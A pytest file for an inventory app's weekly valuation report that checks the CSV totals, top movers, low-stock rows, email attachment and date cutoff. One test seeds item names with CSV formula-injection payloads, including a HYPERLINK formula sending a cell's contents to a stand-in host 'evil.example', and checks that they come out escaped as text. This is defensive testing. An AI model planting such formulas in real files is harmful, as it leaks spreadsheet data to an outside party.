"""The weekly valuation report and its page: numbers match the data the test made."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal

from tests.helpers.tasks import outbox_rows


def test_valuation_report_numbers_match_the_data_and_download_as_csv(app, factory):
    import tasks  # noqa: F401

    boss = factory.user("manager", email="boss@example.com")
    tools, paint = factory.category("Tools"), factory.category("Paint")
    north, south = factory.location("North"), factory.location("South")
    hammer = factory.item(
        quantity=10, price=Decimal("4.00"), category_id=tools.id, location=north, actor=boss, sku="HAM", name="Hammer"
    )
    saw = factory.item(
        quantity=3,
        price=Decimal("10.00"),
        category_id=tools.id,
        location=south,
        actor=boss,
        sku="SAW",
        name="Saw",
        low_stock_threshold=5,
    )
    red = factory.item(
        quantity=20,
        price=Decimal("1.50"),
        category_id=paint.id,
        location=north,
        actor=boss,
        sku="RED",
        name="Red paint",
    )
    headers = factory.headers(user=boss)
    api = app.test_client()
    assert api.post(f"/api/v1/items/{red.id}/withdraw", json={"quantity": 8}, headers=headers).status_code == 200
    body = {"from_location_id": north.id, "to_location_id": south.id, "quantity": 4}
    assert api.post(f"/api/v1/items/{hammer.id}/transfer", json=body, headers=headers).status_code == 200
    assert api.post(f"/api/v1/items/{saw.id}/restock", json={"quantity": 1}, headers=headers).status_code == 200

    result = app.extensions["celery"].tasks["tasks.reports.send_valuation_report"].apply()
    assert result.successful(), result.traceback

    # Hammer 10 x 4.00 (6 North, 4 South); Saw 4 x 10.00 (South); Red paint 12 x 1.50 (North).
    listed = app.test_client().get("/reports", headers=headers)
    assert listed.status_code == 200 and "valuation-" in listed.text
    with app.app_context():
        from app.services import reports

        report = reports.list_reports()[0]
        report_id, filename = report.id, report.filename
        again = reports.create_valuation_report()
        assert again.id == report_id  # one report per period
    download = app.test_client().get(f"/reports/{report_id}.csv", headers=headers)
    assert download.status_code == 200 and download.mimetype == "text/csv"
    assert filename in download.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(download.text)))
    by = {(r["section"], r["name"]): r for r in rows}
    assert (by["category", "Tools"]["items"], by["category", "Tools"]["units"], by["category", "Tools"]["value"]) == (
        "2",
        "14",
        "80.00",
    )
    assert (by["category", "Paint"]["items"], by["category", "Paint"]["units"], by["category", "Paint"]["value"]) == (
        "1",
        "12",
        "18.00",
    )
    assert (by["location", "North"]["items"], by["location", "North"]["units"], by["location", "North"]["value"]) == (
        "2",
        "18",
        "42.00",
    )
    assert (by["location", "South"]["items"], by["location", "South"]["units"], by["location", "South"]["value"]) == (
        "2",
        "8",
        "56.00",
    )
    movers = [(r["sku"], r["units"], r["movements"]) for r in rows if r["section"] == "top_mover"]
    assert movers == [("RED", "8", "1"), ("HAM", "4", "1"), ("SAW", "1", "1")]
    assert [(r["sku"], r["units"], r["threshold"]) for r in rows if r["section"] == "below_threshold"] == [
        ("SAW", "4", "5")
    ]
    assert (by["total", ""]["units"], by["total", ""]["value"]) == ("26", "98.00")

    emails = outbox_rows(app, "report:")
    assert [(e.recipient, e.attachment_name) for e in emails] == [("boss@example.com", filename)]


def test_valuation_leaves_out_movements_before_the_week(app, factory, ctx):
    from app.services import reports

    boss = factory.user("manager")
    item = factory.item(quantity=5, actor=boss, sku="OLD")
    headers = factory.headers(user=boss)
    app.test_client().post(f"/api/v1/items/{item.id}/withdraw", json={"quantity": 2}, headers=headers)
    later = datetime.now(UTC) + timedelta(days=8)
    assert reports.valuation(later).top_movers == []
    assert reports.valuation(datetime.now(UTC) + timedelta(minutes=1)).top_movers == [("OLD", item.name, 2, 1)]


def test_valuation_csv_cells_that_would_be_formulas_arrive_as_text(app, factory):
    """An item named =HYPERLINK(...) is text in the downloaded and the emailed CSV, not a live formula."""
    import tasks  # noqa: F401

    boss = factory.user("manager", email="boss@example.com")
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    category = factory.category("+SUM(1,2)")
    location = factory.location("@cmd")
    factory.item(quantity=1, name=evil, sku="EVIL-1", category_id=category.id, location=location, low_stock_threshold=5)
    factory.item(quantity=2, name="-2+3", sku="EVIL-2", location=location, low_stock_threshold=5)
    factory.item(quantity=3, name="\tTabbed", sku="EVIL-3", location=location, low_stock_threshold=5)
    result = app.extensions["celery"].tasks["tasks.reports.send_valuation_report"].apply()
    assert result.successful(), result.traceback

    with app.app_context():
        from app.services import reports

        report = reports.list_reports()[0]
        stored, report_id = report.content, report.id
    download = app.test_client().get(f"/reports/{report_id}.csv", headers=factory.headers(user=boss))
    for text in (stored, download.text):
        rows = list(csv.DictReader(io.StringIO(text)))
        names = {r["name"] for r in rows}
        assert "'" + evil in names and evil not in names
        assert {"'+SUM(1,2)", "'@cmd", "'-2+3", "'\tTabbed"} <= names
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
        assert all(not c.startswith("'") for c in (r["units"] for r in rows))
